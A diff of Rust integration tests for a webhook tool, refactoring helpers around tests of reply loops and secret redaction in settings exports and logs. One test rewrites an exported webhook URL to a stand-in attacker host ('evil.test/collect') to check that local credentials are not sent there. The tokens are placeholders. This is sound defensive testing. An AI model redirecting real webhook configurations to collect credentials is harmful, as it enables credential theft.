@@ -1,29 +1,15 @@
 //! Where batches, acting on replies and import/export meet the rest:
 //! the edge cases an adversarial review of #16 found, each once a defect.
 
-use autohook::{handle, reply, Control, DeliveryState, HeldEvents, Millis, Outcome, Reply, Selectors, Sender, Status, WebhookInput};
+use autohook::{Control, DeliveryState, HeldEvents, Selectors, Status, WebhookInput};
 use serde_json::{json, Value};
 
-use crate::common::Sim;
+use crate::common::{response, status, Sim, NOON};
 
-const NOON: Millis = Millis(1_795_348_800_000);
 const MINUTE: u64 = 60_000;
 
-fn status(code: u16) -> Outcome {
-    Outcome::Response { status: code, retry_after: None, body: String::new() }
-}
-fn ok_body(body: &str) -> Outcome {
-    Outcome::Response { status: 200, retry_after: None, body: body.into() }
-}
 fn input(v: Value) -> WebhookInput {
     serde_json::from_value(v).unwrap()
-}
-fn ask(sim: &mut Sim, message: Value) -> Value {
-    let answer = handle(&mut sim.engine, message, Sender::ExtensionPage, sim.now, &[9; 32]);
-    reply(answer.map(|answer| match answer {
-        Reply::Now(value) => value,
-        Reply::AfterDelivery(id) => panic!("answered after delivery {id}"),
-    }))
 }
 
 /// A batch holding a reply-sourced message_sent is acted on: the loop the
@@ -39,7 +25,7 @@ fn a_batch_carrying_a_reply_sourced_message_is_not_acted_on() {
     sim.engine.configure_campaign(serde_json::from_value(settings).unwrap(), NOON).unwrap();
     sim.engine.control_campaign(Control::Start, sim.now).unwrap();
     // A workflow that answers every delivery with a reply.
-    let typed = sim.run_until(NOON.plus(10 * MINUTE), |_| ok_body(r#"{"autohook": {"reply": "pong"}}"#));
+    let typed = sim.run_until(NOON.plus(10 * MINUTE), |_| response(200, r#"{"autohook": {"reply": "pong"}}"#));
     // Each phrase may earn a pong; a pong never earns another.
     let (pongs, ones) = (typed.iter().filter(|t| *t == "pong").count(), typed.iter().filter(|t| *t == "one").count());
     assert!(pongs > 0 && pongs <= ones, "a reply answered a reply: typed {typed:?}");
@@ -116,7 +102,7 @@ fn an_export_without_secrets_leaves_out_urls_that_hold_credentials() {
     let mut sim = Sim::new(1);
     sim.webhook(json!({"name": "tg", "url": "https://api.telegram.org/bot123456:AAHsecretTOKENvalue/sendMessage", "preset": "telegram", "chatId": "1"}));
     sim.webhook(json!({"name": "slack", "url": "https://hooks.slack.com/services/T000/B000/XXXXsecretXXXX", "preset": "slack"}));
-    let file = ask(&mut sim, json!({"type": "settings.export", "includeSecrets": false}))["value"].to_string();
+    let file = sim.ask(json!({"type": "settings.export", "includeSecrets": false}))["value"].to_string();
     assert!(!file.contains("AAHsecretTOKENvalue"), "Telegram bot token in clear in a no-secrets export");
     assert!(!file.contains("XXXXsecretXXXX"), "Slack webhook secret path in clear in a no-secrets export");
 }
@@ -128,9 +114,9 @@ fn an_export_without_secrets_leaves_out_urls_that_hold_credentials() {
 fn a_no_secrets_record_pointed_elsewhere_gets_none_of_the_local_credentials() {
     let mut sim = Sim::new(1);
     sim.webhook(json!({"name": "api", "url": "https://good.test/hook", "headers": {"Authorization": "Bearer tok-123456"}}));
-    let mut file = ask(&mut sim, json!({"type": "settings.export", "includeSecrets": false}))["value"].clone();
+    let mut file = sim.ask(json!({"type": "settings.export", "includeSecrets": false}))["value"].clone();
     file["webhooks"][0]["url"] = json!("https://evil.test/collect");
-    let answer = ask(&mut sim, json!({"type": "settings.import", "data": file, "mode": "merge"}));
+    let answer = sim.ask(json!({"type": "settings.import", "data": file, "mode": "merge"}));
     assert_eq!(answer["ok"], true, "{answer}");
     sim.emit("message_sent");
     let t = sim.transmits();
@@ -149,7 +135,7 @@ fn a_slack_workflow_trigger_secret_is_hidden_in_the_log_and_left_out_of_an_expor
     let t = sim.transmits();
     sim.respond(&t[0], status(200));
     let logged = sim.engine.deliveries().next().unwrap().request.as_ref().unwrap().url.clone();
-    let file = ask(&mut sim, json!({"type": "settings.export", "includeSecrets": false}))["value"].to_string();
+    let file = sim.ask(json!({"type": "settings.export", "includeSecrets": false}))["value"].to_string();
     assert!(!logged.contains(token), "log shows {logged}");
     assert!(!file.contains(token), "a no-secrets export carries it");
 }
@@ -188,7 +174,7 @@ fn a_reply_too_long_once_redacted_is_ignored_and_the_campaign_control_still_runs
     let body = json!({"autohook": {"reply": text, "campaign": "pause"}}).to_string();
     let t = sim.transmits();
     assert_eq!(t.len(), 1);
-    sim.respond(&t[0], Outcome::Response { status: 200, retry_after: None, body });
+    sim.respond(&t[0], response(200, &body));
     let action = sim.engine.deliveries().find_map(|d| d.reply_action.clone());
     assert_eq!(*sim.engine.campaign().status(), Status::Paused, "{action:?}");
     assert!(action.as_deref().unwrap().contains("ignored: reply is 2500 characters once its credentials are redacted"), "{action:?}");
